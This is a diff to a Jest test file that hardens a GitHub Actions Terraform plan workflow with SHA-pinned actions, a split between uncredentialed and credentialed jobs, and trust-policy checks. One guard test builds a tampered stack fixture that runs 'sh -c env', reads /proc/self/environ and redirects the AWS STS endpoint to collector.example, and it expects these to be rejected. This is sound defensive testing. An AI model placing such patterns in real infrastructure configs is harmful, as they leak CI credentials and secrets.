@@ -1,7 +1,9 @@
 import { spawnSync } from "node:child_process";
-import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { PLAN_ENVIRONMENT, PLAN_WORKFLOW, planRoleTrustPolicy } from "../review/planRolePolicy";
+import { synthesizeWorkingTree } from "../review/synthesizeWorkingTree";
 
 const ROOT = join(__dirname, "..");
 const WORKFLOW = readFileSync(join(ROOT, ".github", "workflows", "platform-review.yml"), "utf8");
@@ -40,13 +42,13 @@ describe("the CI workflow users copy", () => {
     expect(review).toContain("run: npm test");
     expect(review).toContain('npm run --silent review -- --base "origin/${GITHUB_BASE_REF}" --markdown review.md --json review.json');
     expect(review).toContain('cat review.md >> "$GITHUB_STEP_SUMMARY"');
-    expect(review).toMatch(/if: github\.event\.pull_request\.head\.repo\.full_name == github\.repository\n\s+uses: actions\/github-script@v\d+/);
+    expect(review).toMatch(/if: github\.event\.pull_request\.head\.repo\.full_name == github\.repository\n\s+uses: actions\/github-script@[0-9a-f]{40} # v[\d.]+/);
     // One comment, updated on each push, never longer than GitHub accepts.
     expect(review).toContain('comment.user.type === "Bot" && comment.body && comment.body.startsWith(marker)');
     expect(review).toContain("const limit = 60000;");
     expect(review).toContain("cdktf.out/stacks/*/cdk.tf.json");
     // Terraform's own validate and mock-provider tests, from the registry's pinned provider, before the review.
-    expect(review).toMatch(/uses: hashicorp\/setup-terraform@v\d+\n\s+with:\n\s+terraform_version: \d+\.\d+\.\d+\n\s+terraform_wrapper: false\n\n\s+- name: [^\n]+\n\s+run: npm run validate\n/);
+    expect(review).toMatch(/uses: hashicorp\/setup-terraform@[0-9a-f]{40} # v[\d.]+\n\s+with:\n\s+terraform_version: \d+\.\d+\.\d+\n\s+terraform_wrapper: false\n\n\s+- name: [^\n]+\n\s+run: npm run validate\n/);
     // Every job reviews, synthesizes and plans the config that is deployed, named by a variable.
     expect(WORKFLOW).toMatch(/^env:\n(?:  .*\n)*  PLATFORM_CONFIG: \$\{\{ vars\.PLATFORM_CONFIG \}\}\n/m);
   });
@@ -62,12 +64,12 @@ describe("the CI workflow users copy", () => {
     expect(WORKFLOW).toMatch(/^defaults:\n {2}run:\n(?: {4}#.*\n)* {4}shell: bash\n/m);
   });
 
-  it("keeps the terraform plan job off until the repository configures it, and away from forks", () => {
+  it("keeps the terraform plan jobs off until the repository configures them, and away from forks", () => {
     const plan = job("plan");
+    for (const name of ["plan-synth", "plan"]) expect(job(name)).toContain("if: vars.PLAN_ROLE_ARN != '' && github.event.pull_request.head.repo.full_name == github.repository");
     expect(plan).toContain("environment: platform-plan");
-    expect(plan).toContain("if: vars.PLAN_ROLE_ARN != '' && github.event.pull_request.head.repo.full_name == github.repository");
     expect(plan).toContain("role-to-assume: ${{ vars.PLAN_ROLE_ARN }}");
-    expect(plan).toContain("PLATFORM_STATE__BUCKET: ${{ vars.STATE_BUCKET }}");
+    expect(job("plan-synth")).toContain("PLATFORM_STATE__BUCKET: ${{ vars.STATE_BUCKET }}");
     expect(plan).toContain("terraform plan -input=false -lock=false");
     expect(plan).toContain("for stack in network storage chef spark kafka; do");
   });
@@ -77,21 +79,94 @@ describe("the CI workflow users copy", () => {
     expect(job("gate")).toMatch(/needs: review\n\s+if: vars\.REVIEW_FAIL_ON != ''/);
     expect(job("gate")).toContain(".summary[$kind]");
     expect(job("review")).not.toContain("--fail-on");
-    expect(job("plan")).toMatch(/needs: review\n/);
-    expect(job("review")).toMatch(/if: failure\(\) && github\.event\.pull_request\.head\.repo\.full_name == github\.repository\n\s+uses: actions\/github-script@v\d+/);
+    expect(job("plan")).toMatch(/needs: plan-synth\n/);
+    expect(job("review")).toMatch(/if: failure\(\) && github\.event\.pull_request\.head\.repo\.full_name == github\.repository\n\s+uses: actions\/github-script@[0-9a-f]{40} # v[\d.]+/);
     expect(job("review")).toContain("Platform review failed at ${context.payload.pull_request.head.sha}");
     expect(job("review")).toContain("Reviewed head: ${context.payload.pull_request.head.sha}");
-    for (const name of ["review", "plan"]) expect(job(name)).toMatch(/uses: actions\/checkout@v\d+\n\s+with:\n(?:\s+#.*\n|\s+fetch-depth: 0\n)*\s+persist-credentials: false\n/);
-    const plan = job("plan");
-    expect(plan).toMatch(/uses: hashicorp\/setup-terraform@v\d+\n\s+with:\n\s+terraform_version: \d+\.\d+\.\d+\n/);
-    // npm ci and the app are the pull request's code: they run before any AWS credential exists.
-    expect(plan.indexOf("npm run synth")).toBeGreaterThan(0);
-    expect(plan.indexOf("npm run synth")).toBeLessThan(plan.indexOf("aws-actions/configure-aws-credentials"));
+    for (const name of ["review", "plan-synth"]) expect(job(name)).toMatch(/uses: actions\/checkout@[0-9a-f]{40} # v[\d.]+\n\s+with:\n(?:\s+#.*\n|\s+fetch-depth: 0\n)*\s+persist-credentials: false\n/);
+    expect(job("plan")).toMatch(/uses: hashicorp\/setup-terraform@[0-9a-f]{40} # v[\d.]+\n\s+with:\n\s+terraform_version: \d+\.\d+\.\d+\n/);
   });
 
-  it("pins every action to a major version", () => {
-    const uses = WORKFLOW.match(/uses: \S+/g) ?? [];
+  it("runs no code of the repository where AWS credentials or an OIDC token can be had", () => {
+    // Every step of a job granted id-token may ask GitHub for a token and assume the role itself:
+    // the pull request's code (npm's install scripts, the app's synth) runs in jobs without it.
+    const jobs = [...WORKFLOW.slice(WORKFLOW.indexOf("\njobs:\n")).matchAll(/^ {2}([a-z-]+):\n {4}/gm)].map((match) => match[1]);
+    expect(jobs).toEqual(["review", "gate", "plan-synth", "plan"]);
+    for (const name of jobs) {
+      const text = job(name);
+      const runsRepositoryCode = /actions\/checkout@|\bnpm |\bnpx |\bnode |\btsx /.test(text);
+      const canAssumeTheRole = /id-token: write|configure-aws-credentials/.test(text);
+      expect({ name, both: runsRepositoryCode && canAssumeTheRole }).toEqual({ name, both: false });
+    }
+    expect(job("plan-synth")).toContain("npm ci\n          npm run synth");
+    expect(job("plan-synth")).toMatch(/uses: actions\/upload-artifact@[0-9a-f]{40} # v[\d.]+\n\s+with:\n\s+name: plan-stacks\n/);
+    const plan = job("plan");
+    expect(plan).toMatch(/needs: plan-synth\n/);
+    expect(plan).toMatch(/uses: actions\/download-artifact@[0-9a-f]{40} # v[\d.]+\n\s+with:\n\s+name: plan-stacks\n/);
+    // In the plan job, the credentials come after every other step but Terraform's and the upload.
+    const credentials = plan.indexOf("aws-actions/configure-aws-credentials");
+    expect(credentials).toBeGreaterThan(plan.indexOf("name: Check the stacks use only"));
+    expect(plan.slice(credentials)).not.toMatch(/uses: (?!actions\/upload-artifact@)/);
+    expect(plan.slice(credentials).match(/^ {8}run: .*$/gm)?.map((line) => line.trim())).toEqual(["run: |"]);
+  });
+
+  /** The plan job's check of the synthesized JSON, run as the job runs it, in `dir`. */
+  const guard = (dir: string) => {
+    const text = job("plan");
+    const start = text.indexOf("\n", text.indexOf("run: |", text.indexOf("name: Check the stacks use only"))) + 1;
+    const script = text.slice(start, text.indexOf("exit \"$status\"", start) + 'exit "$status"'.length).replace(/^ {10}/gm, "");
+    return spawnSync("bash", ["-eo", "pipefail", "-c", script], { cwd: dir, encoding: "utf8", env: { ...process.env, STATE_BUCKET: "acme-terraform-state" } });
+  };
+
+  it("checks, before the credentials, that the stacks' JSON reaches no other provider, backend or file", () => {
+    const platform = synthesizeWorkingTree([], { PLATFORM_STATE__BUCKET: "acme-terraform-state" });
+    const write = (stacks: Record<string, object>) => {
+      const dir = mkdtempSync(join(tmpdir(), "plan-guard-"));
+      for (const [name, stack] of Object.entries(stacks)) {
+        mkdirSync(join(dir, "cdktf.out", "stacks", name), { recursive: true });
+        writeFileSync(join(dir, "cdktf.out", "stacks", name, "cdk.tf.json"), JSON.stringify(stack));
+      }
+      return dir;
+    };
+    const passes = guard(write(platform));
+    expect(passes.stdout + passes.stderr).toBe("");
+    expect(passes.status).toBe(0);
+    const chef = platform.chef;
+    const tampered = {
+      ...platform,
+      chef: {
+        ...chef,
+        terraform: { ...chef.terraform, required_providers: { ...chef.terraform.required_providers, external: { source: "hashicorp/external" } } },
+        data: { ...chef.data, external: { leak: { program: ["sh", "-c", "env"] } } },
+        locals: { ...chef.locals, environ: "${base64encode(file(\"/proc/self/environ\"))}" },
+        provider: { aws: [{ ...chef.provider.aws[0], endpoints: [{ sts: "https://collector.example" }] }] },
+      },
+    };
+    const refused = guard(write(tampered));
+    expect(refused.status).toBe(1);
+    for (const problem of ["provider external from hashicorp/external", "data source type external", 'reads the file "/proc/self/environ"', "AWS provider setting endpoints"]) {
+      expect(refused.stdout).toContain(`::error file=cdktf.out/stacks/chef/cdk.tf.json::${problem}`);
+    }
+  });
+
+  it("pins every action to a full commit SHA, with the release it is", () => {
+    // A tag can be moved to other code; a commit cannot.
+    const uses = WORKFLOW.match(/uses: .*/g) ?? [];
     expect(uses.length).toBeGreaterThan(5);
-    for (const use of uses) expect(use).toMatch(/^uses: [\w-]+\/[\w-]+@v\d+$/);
+    for (const use of uses) expect(use).toMatch(/^uses: [\w-]+\/[\w-]+@[0-9a-f]{40} # v\d+(\.\d+){2}$/);
+  });
+
+  it("documents a trust policy that names this workflow's pull request runs as well as the environment", () => {
+    const docs = readFileSync(join(ROOT, "docs", "ci-review.md"), "utf8");
+    const block = /```json plan-role-trust\n([\s\S]*?)```/.exec(docs)?.[1];
+    expect(block).toBeDefined();
+    const trust = JSON.parse(block ?? "{}");
+    expect(trust).toEqual(planRoleTrustPolicy({ account: "111122223333", repository: "acme/platform" }));
+    const condition = trust.Statement[0].Condition;
+    expect(condition.StringLike["token.actions.githubusercontent.com:job_workflow_ref"]).toBe(`acme/platform/${PLAN_WORKFLOW}@refs/pull/*/merge`);
+    expect(condition.StringEquals["token.actions.githubusercontent.com:sub"]).toBe(`repo:acme/platform:environment:${PLAN_ENVIRONMENT}`);
+    // The names the trust policy uses are this workflow's.
+    expect(WORKFLOW).toBe(readFileSync(join(ROOT, PLAN_WORKFLOW), "utf8"));
+    expect(job("plan")).toContain(`environment: ${PLAN_ENVIRONMENT}\n`);
   });
 });
